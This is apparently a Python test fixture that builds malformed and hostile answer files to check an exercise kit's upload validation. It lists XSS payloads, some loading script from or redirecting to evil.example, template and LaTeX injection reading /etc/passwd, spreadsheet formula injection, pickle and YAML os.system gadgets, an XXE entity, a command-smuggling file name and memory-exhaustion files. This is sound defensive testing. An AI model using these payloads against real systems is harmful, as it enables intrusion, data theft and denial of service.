"""Answer files that a form never writes, and texts that would be more than texts elsewhere."""

from __future__ import annotations

import json
from typing import Any

from .sent import MARK, Kind, Sent

HTML = (
    "<script>document.title='ran';window.ran=1</script>",
    "\"><img src=x onerror=\"window.ran=1\">",
    "'><svg onload=window.ran=1><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<a href=\"javascript:window.ran=1\">here</a> javascript:window.ran=1",
    "<style>body{display:none}</style></style></table></body><iframe srcdoc='<script>parent.ran=1</script>'>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button autofocus onfocus=window.ran=1>x</button></form>",
    "<!--><img src=x onerror=window.ran=1>--!><img src=x onerror=window.ran=1>",
    "</textarea></title></pre><script src=//evil.example/x.js></script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
)
TEMPLATES = (
    "{{ 7*6 }}{{ self.__init__.__globals__ }}", "{% for x in ().__class__.__mro__ %}{% endfor %}",
    "${7*6} #{7*6} <%= 7*6 %>", "{0.__class__} %(x)s %n%n", "#import \"/etc/passwd\": * #read(\"/etc/passwd\")",
    "#eval(\"1\") $ sum $ @cite *b* _i_ `raw` \\ #panic()", "\\input{/etc/passwd} \\write18{id}",
    "[bold]x[/bold] [link=file:///etc/passwd]x[/link]", "$\\href{javascript:window.ran=1}{x}$",
)
FORMULAS = (
    "=HYPERLINK(\"http://evil.example\",\"x\")", "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff201+1",
    "x;=1+1", "x\",=1+1", "\"=1+1\"", "%0A=1+1", "\x00=1+1",
)
BIDI = (
    "\u202e0.01 fo 0.01\u202c", "\u2066\u2067\u2068\u2069\u2069", "zero\u200bwidth\u200c\u200d\u2060\ufeff",
    "\u00ad\u034f\u115f\u3164", "e" + "\u0301" * 500, "\u0007\u0008\u001b[31mred\u001b[0m", "\U000e0041\U000e0042",
    "\ufff9a\ufffab\ufffb", "\u2028\u2029\u0085", "\U0001f468\u200d\U0001f469\u200d\U0001f467",
)


def raw(content: bytes):
    return lambda s: s.answer(content)


def fields(**changed: Any):
    return lambda s: s.answer(json.dumps(s.envelope(**changed)).encode())


def data(**sections: Any):
    return fields(data=sections)


def written(*texts: str):
    """Every text that a learner types, in every answer, is one of these."""
    def build(s: Sent) -> None:
        count = 0

        def spoil(value: Any, key: str = "") -> Any:
            nonlocal count
            if isinstance(value, dict):
                return {k: spoil(v, k) for k, v in value.items()}
            if isinstance(value, list):
                return [spoil(v, key) for v in value]
            if not isinstance(value, str) or key == "id":
                return value
            count += 1
            return texts[count % len(texts)]

        changed = {}
        for name, content in s.whole.items():
            if name.startswith("answers/"):
                held = json.loads(content)
                held["data"] = spoil(held["data"])
                changed[name] = json.dumps(held).encode()
        s.zip(changed)

    return build


def beside(*texts: str):
    """The same, after what is right."""
    def build(s: Sent) -> None:
        held = json.loads(s.files["answers/mine/0.1.json"])
        for rows in held["data"].values():
            for row in rows:
                for key, value in row.items():
                    if isinstance(value, str) and key != "id":
                        row[key] = f"{value} {texts[len(value) % len(texts)]}"
        s.zip({"answers/mine/0.1.json": json.dumps(held).encode()})

    return build


def keys(s: Sent) -> None:
    """Names of Python and JavaScript as sections and columns, in what is otherwise right."""
    held = s.envelope()
    odd = {"__class__": "x", "__proto__": {"ran": 1}, "constructor": "x", "<script>": "x", "": "x"}
    held["data"] |= odd
    s.answer(json.dumps(held).encode())


def unknown(s: Sent) -> None:
    content = s.files["answers/2.1.json"]
    s.zip({f"answers/{name}.json": content for name in (
        "99.99", "2.8", "2.1z", "2.1;rm", "..", "-1.0", "2.1.json", "\u0662.\u0661", "mine/2.1", "a/b/2.1")})


def many_rows(s: Sent) -> None:
    held = s.envelope()
    rows = next(iter(held["data"].values()))
    rows *= 3_000
    s.answer(json.dumps(held).encode()[:6_000_000])


def rows_within(s: Sent) -> None:
    """Some 1 MB of rows: within what may be read, and far beyond what a form holds."""
    held = s.envelope("2.2")
    for rows in held["data"].values():
        rows *= 500
    s.answer(json.dumps(held).encode(), "2.2")


def many_files(s: Sent) -> None:
    """Every file large, none too large: together more than a computer's memory when read."""
    empty = json.dumps(s.envelope(data={"x": []})).encode()
    body = b",".join([b"[]"] * 1_500_000)
    large = empty.replace(b"[]", b"[" + body + b"]")
    s.zip({name: large for name in s.files if name.startswith("answers/")})


def long_text(s: Sent) -> None:
    held = s.envelope("2.2")
    for rows in held["data"].values():
        for row in rows:
            row.update({k: "a " * 20_000 for k, v in list(row.items())[:2] if isinstance(v, str) and k != "id"})
            break
    s.answer(json.dumps(held).encode(), "2.2")


def nested(levels: int):
    def build(s: Sent) -> None:
        held = json.dumps(s.envelope(data={"labels": []})).encode()
        s.answer(held.replace(b"[]", b"[" * levels + b"]" * levels))

    return build


FORM = "holds what its form never writes"
WAITS = ("2.1",)
SORTED = ("2.2", "2.3", "2.5", "9.1b", "9.1d", "9.1e", "9.2")  # where a choice may be no text
KINDS = {
    "answer: more than 5 MB": Kind(raw(b" " * 6_000_000), says="at most 5 MB", waits=WAITS),
    "answer: 50 MB that begin well": Kind(raw(b'{"data": {}' + b" " * 50_000_000), says="at most 5 MB",
                                          waits=WAITS),
    "answer: nested without end": Kind(raw(b'{"a":' * 50_000), says="nests too deeply", waits=WAITS),
    "answer: nested 400 deep": Kind(nested(400), says="2.1:", waits=WAITS),
    "answer: NaN": Kind(data(labels=[{"id": float("nan")}]), says="NaN is not a number", waits=WAITS),
    "answer: Infinity": Kind(data(labels=[float("inf")]), says="Infinity is not a number", waits=WAITS),
    "answer: 1e999": Kind(raw(b'{"data": {"labels": 1e999}}'), says="1e999 is not a number", waits=WAITS),
    "answer: a number of 100,000 digits": Kind(raw(b'{"data": {"n": ' + b"9" * 100_000 + b"}}"),
                                               says="is not a number a file can hold", waits=WAITS),
    "answer: a key twice": Kind(raw(b'{"data": {}, "data": {}}'), says="stands twice", waits=WAITS),
    "answer: half a character": Kind(beside("\ud800", "\udfff\ud800", "x\udc00"), says="whole characters",
                                      waits=("0.1",)),
    "answer: a mark before the text": Kind(lambda s: s.answer(b"\xef\xbb\xbf" + s.files["answers/2.1.json"])),
    "answer: UTF-16": Kind(lambda s: s.answer(s.files["answers/2.1.json"].decode().encode("utf-16")),
                           says="is not UTF-8 text", waits=WAITS),
    "answer: Latin-1": Kind(raw('{"data": {"x": "Zo\u00eb"}}'.encode("latin-1")), says="is not UTF-8 text",
                            waits=WAITS),
    "answer: a pickle": Kind(raw(b"cos\nsystem\n(S'echo " + MARK.encode() + b"'\ntR."),
                             says="is not complete JSON", waits=WAITS),
    "answer: JavaScript": Kind(raw(b"window.ran=1"), says="is not complete JSON", waits=WAITS),
    "answer: YAML": Kind(raw(b"!!python/object/apply:os.system ['echo x']"), says="is not complete JSON",
                         waits=WAITS),
    "answer: XML of entities": Kind(raw(b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'),
                                    says="is not complete JSON", waits=WAITS),
    "answer: a list": Kind(raw(b"[]"), says="expected an object, found a list", waits=WAITS),
    "answer: data is text": Kind(fields(data="all right"), says="expected an object as data", waits=WAITS),
    "answer: a section is text": Kind(data(labels="all"), says=FORM, waits=WAITS),
    "answer: a section is null": Kind(data(labels=None), says=FORM, waits=WAITS),
    "answer: a row is a number": Kind(data(labels=[7]), says=FORM, waits=WAITS),
    "answer: a row is a list": Kind(data(labels=[["id", "S01"]]), says=FORM, waits=WAITS),
    "answer: a cell is an object": Kind(data(labels=[{"id": "S01", "choice": {"a": 1}}]), says=FORM,
                                        waits=WAITS),
    "answer: an id is a list": Kind(data(labels=[{"id": ["S01"], "choice": "need"}]), says=FORM, waits=WAITS),
    "answer: a cell is true": Kind(data(labels=[{"id": "S01", "choice": True}]), says=FORM, waits=WAITS),
    "answer: a later schema": Kind(fields(schema=99), says="a newer kit", waits=WAITS),
    "answer: a schema below none": Kind(fields(schema=-1), says="a whole number as schema", waits=WAITS),
    "answer: a revision below none": Kind(fields(rev=-5), says="expected rev 0 or more", waits=WAITS),
    "answer: a revision that is true": Kind(fields(rev=True), says="a whole number as rev", waits=WAITS),
    "answer: a revision of 17 digits": Kind(fields(rev=10**17)),
    "answer: saved in the year 9999": Kind(fields(saved="9999-12-31T23:59:59-23:59")),
    "answer: saved in the year 1": Kind(fields(saved="0001-01-01T00:00:00+23:59")),
    "answer: saved at no time": Kind(fields(saved=HTML[0] + "\x00" * 99)),
    "answer: says that it is another": Kind(fields(exercise="2.2", mine=True)),
    "answer: says what it is worth": Kind(fields(points=1000, score=1000, state="done", mark={"share": 9})),
    "answer: says whose it is": Kind(fields(learner="honest-1", id="honest-1", student_id="honest-1")),
    "answer: odd keys": Kind(keys, other=True),
    "answer: of exercises that are not there": Kind(unknown, other=True),
    "answer: 3,000 times its rows": Kind(many_rows, says="2.1", waits=WAITS),
    "answer: 500 times its rows": Kind(rows_within, says="2.2", waits=("2.2",)),
    "answer: a text of 40 kB": Kind(long_text, says="holds a text of 40000 characters", waits=("2.2",)),
    "answer: all files large": Kind(many_files, says="holds 4.5 MB; a full form has some 30 kB", none=True),
    "text: HTML and scripts everywhere": Kind(written(*HTML), says="expected", waits=SORTED, other=True),
    "text: HTML beside what is right": Kind(beside(*HTML), other=True),
    "text: templates and markup": Kind(written(*TEMPLATES), says="expected", waits=SORTED, other=True),
    "text: formulas": Kind(written(*FORMULAS), says="expected", waits=SORTED, other=True),
    "text: bidi, zero width, control characters": Kind(written(*BIDI), says="expected", waits=SORTED,
                                                      other=True),
}
